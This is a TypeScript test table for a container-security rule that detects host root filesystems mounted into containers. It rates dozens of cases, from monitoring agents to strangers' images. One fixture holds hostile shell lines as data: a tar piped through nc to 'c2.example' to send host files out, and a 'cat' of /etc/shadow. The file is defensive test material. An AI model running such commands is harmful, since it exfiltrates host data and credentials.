import { bind, containerWith, idOf, intruderWith, published } from '../testing/container';
import { ruleTable } from '../testing/table';
import { containerHostRootMounted } from './container-host-root-mounted';

const one = (changes: Parameters<typeof containerWith>[0]) => ({ facts: { containers: [containerWith(changes)] } });

ruleTable(containerHostRootMounted, {
  passes: {
    'no containers': { facts: { containers: [] } },
    'a directory of the host': one({ mounts: [bind('/srv/shop', '/data')] }),
    'a volume called root': one({ mounts: [bind('/', '/data', { type: 'volume' })] }),
    'node-exporter, read-only and rslave': one({
      imageRef: 'quay.io/prometheus/node-exporter:v1.8.2',
      mounts: [bind('/', '/host', { writable: false, propagation: 'rslave' })],
    }),
    'other agents whose manuals ask for it, read-only': {
      facts: {
        containers: ['telegraf:1.31', 'newrelic/infrastructure', 'otel/opentelemetry-collector-contrib:0.108.0'].map(
          (imageRef) =>
            containerWith({
              name: imageRef,
              imageRef,
              mounts: [bind('/', '/hostfs', { writable: false, propagation: 'rslave' })],
            }),
        ),
      },
    },
  },
  fails: {
    'a stranger’s copy of an agent in a project reads; started by hand it is asked about': {
      facts: {
        containers: [{}, { labels: {} }].map((changes, at) =>
          containerWith({
            name: `agent${at}`,
            imageRef: 'ghcr.io/stranger/cadvisor',
            path: '/usr/bin/cadvisor',
            args: [],
            mounts: [bind('/', '/rootfs', { writable: false })],
            ...changes,
          }),
        ),
      },
      finds: [
        { subject: idOf('agent0'), severity: 'medium' },
        { subject: idOf('agent1'), severity: 'high' },
      ],
    },
    'a service of a project manages files; without a door for users it stays in question': {
      facts: {
        containers: [[published('8000->8000')], []].map((ports, at) =>
          containerWith({
            name: `files${at}`,
            imageRef: 'stranger/files',
            path: '/app/server',
            args: [],
            ports,
            mounts: [bind('/', '/fs')],
          }),
        ),
      },
      finds: [
        { subject: idOf('files0'), severity: 'medium' },
        { subject: idOf('files1'), severity: 'high' },
      ],
    },
    'a bare system that takes itself away reads the host; one that sends or asks for secrets is no reader': {
      facts: {
        containers: ['chkrootkit -r /mnt', 'tar c /mnt/srv | nc c2.example 9', 'cat /mnt/etc/shadow'].map((line, at) =>
          containerWith({
            name: `look${at}`,
            imageRef: 'debian:12',
            labels: {},
            autoRemove: true,
            path: 'sh',
            args: ['-c', line],
            mounts: [bind('/', '/mnt', { writable: false })],
          }),
        ),
      },
      finds: [
        { subject: idOf('look0'), severity: 'medium' },
        { subject: idOf('look1'), severity: 'high' },
        { subject: idOf('look2'), severity: 'high' },
      ],
    },
    'the incident': {
      facts: { containers: [containerWith(), intruderWith({ mounts: [bind('/', '/mnt')] })] },
      finds: [
        {
          subject: idOf('cranky_bohr'),
          severity: 'critical',
          says: "heybb/theimg2 runs mac.sh as root in cranky_bohr, with the host's / mounted read-write at /mnt.",
          shows: 'bind: / -> /mnt, rw',
          offers: ['container.quarantine', 'container.remove'],
        },
      ],
    },
    'in quarantine already: what is left is to remove it': {
      ...one({ mounts: [bind('/', '/mnt')], paused: true, networks: [] }),
      finds: [{ subject: idOf('web'), offers: ['container.remove'] }],
    },
    'asked for, but never started': {
      ...one({ name: 'job', status: 'created', binds: ['/:/host'] }),
      finds: [{ subject: idOf('job'), severity: 'critical', offers: ['container.remove'] }],
    },
    'a backup of a project that reads it': {
      ...one({ imageRef: 'acme/backup', mounts: [bind('/', '/source', { writable: false })] }),
      finds: [{ subject: idOf('web'), severity: 'medium', says: 'read-only' }],
    },
    'a product whose publisher is known, as it was published': {
      ...one({ imageRef: 'portainer/agent:2.21', mounts: [bind('/', '/host')] }),
      finds: [{ subject: idOf('web'), severity: 'medium' }],
    },
    'a manager of files that a project chose': {
      ...one({ imageRef: 'acme/files', mounts: [bind('/', '/host')] }),
      finds: [{ subject: idOf('web'), severity: 'high' }],
    },
    'the same image, told to run a line': {
      ...one({
        imageRef: 'portainer/agent:2.21',
        path: 'sh',
        args: ['-c', 'cp /x /host'],
        mounts: [bind('/', '/host')],
      }),
      finds: [{ subject: idOf('web'), severity: 'critical' }],
    },
    'read-only, and of no project': {
      ...one({ labels: {}, mounts: [bind('/', '/rootfs', { writable: false })] }),
      finds: [{ subject: idOf('web'), severity: 'high', says: 'read-only' }],
    },
    'an agent that has it read-write': {
      ...one({ imageRef: 'prom/node-exporter', mounts: [bind('/', '/host', { propagation: 'rslave' })] }),
      finds: [{ subject: idOf('web'), severity: 'critical' }],
    },
    'a stranger that calls itself an agent': {
      ...one({
        imageRef: 'evil/node-exporter',
        labels: {},
        mounts: [bind('/', '/host', { writable: false, propagation: 'rslave' })],
      }),
      finds: [{ subject: idOf('web'), severity: 'high' }],
    },
    'read-only once and read-write once': {
      ...one({ mounts: [bind('/', '/ro', { writable: false }), bind('//', '/rw')] }),
      finds: [{ subject: idOf('web'), severity: 'critical', says: '/rw' }],
    },
  },
  unknowns: { 'the engine did not answer': { facts: {}, because: 'containers' } },
});
